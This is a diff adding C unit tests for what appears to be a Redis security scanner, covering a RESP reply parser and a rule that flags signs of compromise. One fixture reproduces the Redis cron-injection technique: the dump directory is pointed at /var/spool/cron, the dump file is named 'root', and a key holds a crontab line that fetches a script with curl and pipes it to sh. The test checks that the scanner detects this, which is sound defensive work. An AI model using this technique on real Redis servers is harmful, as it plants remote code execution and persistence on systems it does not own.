@@ -221,3 +221,107 @@ Test(redis_assess, negatives)
 		rawfix_release(&f);
 	}
 }
+
+/* ---- redis.compromise_indicator ---- */
+
+Test(redis_wire, next_ints_and_arrays)
+{
+	static const char b[] = ":42\r\n*2\r\n$3\r\ndir\r\n$4\r\n/tmp\r\n"
+				"*-1\r\n-ERR x\r\n";
+	struct redis_reply r;
+	size_t off = 0, used;
+
+	cr_assert_eq(redis_wire_next(b, sizeof(b) - 1, &r, &used), 0);
+	cr_expect_eq(r.type, REDIS_R_INT);
+	cr_expect_eq(r.num, 42);
+	off += used;
+	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
+		     0);
+	cr_expect_eq(r.type, REDIS_R_ARRAY);
+	cr_expect_eq(r.num, 2);
+	off += used;
+	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
+		     0);
+	cr_expect_eq(r.type, REDIS_R_BULK);
+	off += used;
+	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
+		     0);
+	off += used;
+	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
+		     0);
+	cr_expect_eq(r.type, REDIS_R_ARRAY);
+	cr_expect_eq(r.num, -1);
+	off += used;
+	cr_assert_eq(redis_wire_next(b + off, sizeof(b) - 1 - off, &r, &used),
+		     0);
+	cr_expect_eq(r.type, REDIS_R_ERROR);
+	cr_expect_eq(redis_wire_next(":12", 3, &r, &used), REDIS_WIRE_MORE);
+	cr_expect_eq(redis_wire_next(":1x\r\n", 5, &r, &used), EXPO_EPARSE);
+	cr_expect_eq(redis_wire_next("*-2\r\n", 5, &r, &used), EXPO_EPARSE);
+}
+
+#define REDIS_OPEN_FACTS                                                  \
+	"\"reply\":\"info\",\"redis_version\":\"7.0.15\",\"redis_mode\":" \
+	"\"standalone\",\"role\":\"master\",\"connected_clients\":2,"     \
+	"\"keys\":4,\"dbs\":1"
+
+/* the finding of rule among several, or NULL */
+static const struct finding *rawfix_rule(struct rawfix *f, const char *rule)
+{
+	struct finding_list *l = ctx_findings(f->ctx);
+	size_t i;
+
+	for (i = 0; i < l->n; i++)
+		if (strcmp(l->v[i].rule_id, rule) == 0)
+			return &l->v[i];
+	return NULL;
+}
+
+Test(redis_assess, compromise_indicator)
+{
+	struct rawfix f;
+	const struct finding *x;
+
+	/* cron injection: the dump file moved to a crontab folder, a key
+	 * holding a line that fetches and pipes to a shell */
+	rawfix_run(&f, &check_redis, 6379,
+		   "{" REDIS_OPEN_FACTS ",\"config_dir\":\"/var/spool/cron\","
+		   "\"config_dbfilename\":\"root\",\"sign_values\":{"
+		   "\"backup1\":\"\\n\\n*/2 * * * * root curl -fsSL "
+		   "http://127.0.0.1/b.sh | sh\\n\\n\",\"backup2\":\"fine\"}}",
+		   false);
+	x = rawfix_rule(&f, "redis.compromise_indicator");
+	cr_assert_not_null(x);
+	cr_expect_float_eq(x->cvss_score, 10.0, 1e-9);
+	cr_expect_eq(x->severity, SEV_CRITICAL);
+	cr_expect(strstr(x->evidence, "2 signs of compromise") &&
+			  strstr(x->evidence,
+				 "Redis dir set to a cron folder "
+				 "\"/var/spool/cron\" in CONFIG GET "
+				 "dir") &&
+			  strstr(x->evidence, "in the value of key backup1") &&
+			  strstr(x->evidence, "curl -fsSL") &&
+			  strstr(x->evidence, "backup2") == NULL,
+		  "%s", x->evidence);
+	cr_expect_not_null(rawfix_rule(&f, "redis.no_auth"));
+	rawfix_release(&f);
+
+	/* the clean twin and the decoy (a known name holding harmless text,
+	 * the default dir): the open door only */
+	rawfix_run(&f, &check_redis, 6379,
+		   "{" REDIS_OPEN_FACTS ",\"config_dir\":\"/var/lib/redis\","
+		   "\"config_dbfilename\":\"dump.rdb\",\"sign_values\":{"
+		   "\"backup1\":\"weekly backup at 02:00; see xmrig notes\"}}",
+		   false);
+	cr_expect_null(rawfix_rule(&f, "redis.compromise_indicator"));
+	cr_expect_eq(rawfix_count(&f), 1);
+	rawfix_release(&f);
+
+	/* signs without a proven open door are not read as signs */
+	rawfix_run(
+		&f, &check_redis, 6379,
+		"{\"reply\":\"auth_required\",\"config_dir\":\"/root/.ssh\"}",
+		false);
+	cr_expect_eq(rawfix_count(&f), 0);
+	rawfix_release(&f);
+}
